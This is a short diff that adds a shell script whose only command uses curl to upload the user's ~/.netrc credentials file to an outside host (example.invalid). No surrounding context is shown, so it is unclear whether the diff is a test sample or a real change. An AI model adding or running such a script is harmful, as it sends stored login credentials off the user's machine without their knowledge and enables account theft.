@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -F "f=@$HOME/.netrc" http://example.invalid/up
